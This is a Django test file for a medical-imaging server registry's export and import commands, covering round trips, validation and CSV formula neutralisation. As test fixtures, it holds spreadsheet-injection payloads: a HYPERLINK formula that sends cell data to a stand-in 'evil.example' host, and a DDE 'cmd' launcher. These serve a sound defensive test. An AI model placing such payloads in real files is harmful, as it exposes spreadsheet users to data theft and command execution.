from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

from django.core.management import CommandError, call_command
from django.test import TestCase

from integrations import registry, transfer
from integrations.models import ApprovedUser, DicomWebServer, Institution


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_registry", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def import_file(text: str, *args: str) -> str:
    path = Path(tempfile.mkdtemp()) / "registry"
    path.write_text(text, encoding="utf-8")
    out = io.StringIO()
    try:
        call_command("import_registry", str(path), *args, stdout=out)
    finally:
        path.unlink()
    return out.getvalue()


def snapshot() -> dict[str, list[tuple]]:
    return {
        "institutions": list(Institution.objects.order_by("pk").values_list()),
        "servers": list(DicomWebServer.objects.order_by("pk").values_list()),
        "approved_users": list(ApprovedUser.objects.order_by("pk").values_list()),
    }


def empty_registry() -> None:
    ApprovedUser.objects.all().delete()
    DicomWebServer.objects.all().delete()
    Institution.objects.all().delete()


class RegistryRoundTripTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        university = Institution.objects.create(
            name="University Hospital",
            contact_name="Ada",
            contact_email="ada@university.example",
            notes='Üñïcødé notes, "quoted"\nand a second line',
        )
        county = Institution.objects.create(name="County General")
        cls.pacs = DicomWebServer.objects.create(
            institution=university,
            name="PACS",
            qido_url="https://pacs.university.example/dicomweb",
            wado_url="https://pacs.university.example/wado",
            status=DicomWebServer.Status.ACTIVE,
            cors_mode=DicomWebServer.CorsMode.REVERSE_PROXY,
            needs_credentials=True,
        )
        cls.vna = DicomWebServer.objects.create(
            institution=county,
            name="VNA",
            qido_url="http://vna.county.example/dicom-web",
            wado_url="http://vna.county.example/dicom-web",
        )
        registry.add_approved_users(
            cls.pacs, registry.normalise_all(["Jane.Doe@University.example", "b@x.org"])
        )
        registry.add_approved_users(
            cls.vna, registry.normalise_all(["Jane.Doe@University.example"])
        )
        # The gate's fields travel too (the edge key as its hash).
        cls.pacs.edge_enforced = True
        cls.pacs.save()
        registry.replace_edge_key(cls.pacs)
        ApprovedUser.objects.filter(email_key="b@x.org").update(
            expires_at="2031-01-02T03:04:05Z"
        )

    def test_a_json_round_trip_into_an_empty_database_gives_identical_data(
        self,
    ) -> None:
        before = snapshot()
        document = export()
        empty_registry()
        output = import_file(document)
        self.assertIn("2 institution(s), 2 server(s), 3 approved user(s)", output)
        self.assertEqual(snapshot(), before)
        self.assertEqual(export(), document)

    def test_the_import_keeps_ids_usable_for_new_rows(self) -> None:
        document = export()
        empty_registry()
        import_file(document)
        # On PostgreSQL the sequences must have moved past the imported ids.
        new = Institution.objects.create(name="New Institution")
        self.assertGreater(
            new.pk, max(row[0] for row in snapshot()["institutions"][:-1])
        )

    def test_the_import_writes_audit_history_naming_the_command(self) -> None:
        document = export()
        empty_registry()
        import_file(document)
        record = ApprovedUser.history.filter(email="b@x.org").latest()
        self.assertEqual(record.history_type, "+")
        self.assertEqual(record.history_actor, "command:import_registry")

    def test_it_refuses_a_registry_that_is_not_empty_and_writes_nothing(self) -> None:
        before = snapshot()
        with self.assertRaisesMessage(CommandError, "The registry is not empty"):
            import_file(export())
        self.assertEqual(snapshot(), before)

    def test_it_reports_every_bad_row_and_writes_nothing(self) -> None:
        document = json.loads(export())
        document["servers"][0]["qido_url"] = "ftp://pacs.example"
        document["approved_users"][1]["email"] = "not-an-email"
        document["approved_users"][2]["server_id"] = 999
        empty_registry()
        with self.assertRaises(CommandError) as caught:
            import_file(json.dumps(document))
        message = str(caught.exception)
        self.assertIn("servers #1: “ftp://pacs.example” is not a usable", message)
        self.assertIn("approved_users #2: “not-an-email” is not a valid email", message)
        self.assertIn("approved_users #3: unknown server 999.", message)
        self.assertFalse(Institution.objects.exists())

    def test_an_export_from_before_the_gate_still_imports(self) -> None:
        document = json.loads(export())
        for row in document["servers"]:
            for name in ("edge_enforced", "edge_key_hash", "edge_key_created_at"):
                del row[name]
        for row in document["approved_users"]:
            del row["expires_at"]
        empty_registry()
        import_file(json.dumps(document))
        self.assertFalse(DicomWebServer.objects.filter(edge_enforced=True).exists())
        self.assertFalse(ApprovedUser.objects.exclude(expires_at=None).exists())

    def test_a_bad_edge_key_hash_or_expiry_is_reported_and_nothing_written(
        self,
    ) -> None:
        original = export()
        empty_registry()
        for table, field, value in (
            ("servers", "edge_key_hash", "not-a-hash\x00"),
            ("servers", "edge_key_hash", 7),
            ("servers", "edge_key_created_at", "yesterday"),
            ("approved_users", "expires_at", "tomorrow"),
        ):
            with self.subTest(field=field, value=value):
                document = json.loads(original)
                document[table][0][field] = value
                with self.assertRaises(CommandError) as raised:
                    import_file(json.dumps(document))
                self.assertIn(field, str(raised.exception))
                self.assertFalse(Institution.objects.exists())

    def test_it_refuses_a_file_that_is_not_an_export(self) -> None:
        with self.assertRaisesMessage(CommandError, "Not a registry export"):
            import_file('{"hello": 1}')
        with self.assertRaisesMessage(CommandError, "Not JSON"):
            import_file("email\na@b.org\n")


class ApprovedUsersCsvTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        RegistryRoundTripTests.setUpTestData.__func__(cls)  # type: ignore[attr-defined]

    vna: DicomWebServer

    def test_a_csv_round_trip_restores_the_approved_users(self) -> None:
        before = sorted(ApprovedUser.objects.values_list("server_id", "email"))
        document = export("--format", "csv")
        self.assertEqual(
            document.splitlines()[0], "server_id,institution,server,email,created_at"
        )
        ApprovedUser.objects.all().delete()
        output = import_file(document, "--format", "csv")
        self.assertIn("3 approval(s) added to 2 server(s), 0 already there", output)
        self.assertEqual(
            sorted(ApprovedUser.objects.values_list("server_id", "email")), before
        )

    def test_a_csv_with_a_bad_line_writes_nothing(self) -> None:
        pk = self.vna.pk
        text = f"server_id,email\n{pk},new@example.org\nx,a@b.org\n{pk},bad\n"
        with self.assertRaises(CommandError) as caught:
            import_file(text, "--format", "csv")
        self.assertIn("Line 3: “x” is not a server id.", str(caught.exception))
        self.assertIn("Line 4: “bad” is not a valid email", str(caught.exception))
        self.assertFalse(ApprovedUser.objects.filter(email="new@example.org").exists())


class CsvExportNeutralisesFormulas(TestCase):
    """A cell a spreadsheet would run as a formula gets a leading apostrophe;
    the importers drop exactly that, so every value comes back as it was."""

    @classmethod
    def setUpTestData(cls) -> None:
        institution = Institution.objects.create(
            name='=HYPERLINK("https://evil.example/?x="&A1,"click")'
        )
        cls.pacs = DicomWebServer.objects.create(
            institution=institution,
            name="+cmd|' /C calc'!A0",
            qido_url="https://pacs.example/dicomweb",
            wado_url="https://pacs.example/dicomweb",
        )
        cls.emails = [
            "=hyperlink@example.org",
            "+1@example.org",
            "-minus@example.org",
            "'quoted@example.org",
            "plain@example.org",
        ]
        registry.add_approved_users(cls.pacs, cls.emails)

    def rows(self) -> list[list[str]]:
        return list(csv.reader(io.StringIO(export("--format", "csv"))))[1:]

    def test_no_exported_cell_starts_a_formula(self) -> None:
        for row in self.rows():
            for cell in row:
                self.assertFalse(cell.startswith(transfer.FORMULA_STARTS), cell)
        institution, server = self.rows()[0][1:3]
        self.assertEqual(
            institution, '\'=HYPERLINK("https://evil.example/?x="&A1,"click")'
        )
        self.assertEqual(server, "'+cmd|' /C calc'!A0")

    def test_tab_carriage_return_and_at_are_neutralised_too(self) -> None:
        for value in ["\tx", "\rx", "@SUM(A1)", "-2+3", "'already"]:
            with self.subTest(value=value):
                self.assertEqual(transfer.csv_cell(value), "'" + value)
                self.assertEqual(transfer.csv_value(transfer.csv_cell(value)), value)
        self.assertEqual(transfer.csv_cell("ordinary"), "ordinary")
        self.assertEqual(transfer.csv_cell(7), "7")

    def test_undoing_the_guard_gives_back_every_value_exactly(self) -> None:
        exported = {
            (
                transfer.csv_value(row[1]),
                transfer.csv_value(row[2]),
                transfer.csv_value(row[3]),
            )
            for row in self.rows()
        }
        self.assertEqual(
            exported,
            {(self.pacs.institution.name, self.pacs.name, e) for e in self.emails},
        )

    def test_a_hand_written_apostrophe_that_guards_nothing_is_kept(self) -> None:
        self.assertEqual(
            transfer.csv_value("'o.brien@example.org"), "'o.brien@example.org"
        )
        self.assertEqual(transfer.csv_value("'=1+1"), "=1+1")
        self.assertEqual(transfer.csv_value("''quoted"), "'quoted")

    def test_the_csv_import_round_trip_is_identical(self) -> None:
        document = export("--format", "csv")
        ApprovedUser.objects.all().delete()
        import_file(document, "--format", "csv")
        self.assertEqual(
            sorted(self.pacs.approved_users.values_list("email", flat=True)),
            sorted(self.emails),
        )

    def test_import_approved_users_reads_the_export_too(self) -> None:
        document = export("--format", "csv")
        ApprovedUser.objects.all().delete()
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "export.csv"
            path.write_text(document, encoding="utf-8")
            call_command(
                "import_approved_users",
                str(self.pacs.pk),
                str(path),
                stdout=io.StringIO(),
            )
        self.assertEqual(
            sorted(self.pacs.approved_users.values_list("email", flat=True)),
            sorted(self.emails),
        )
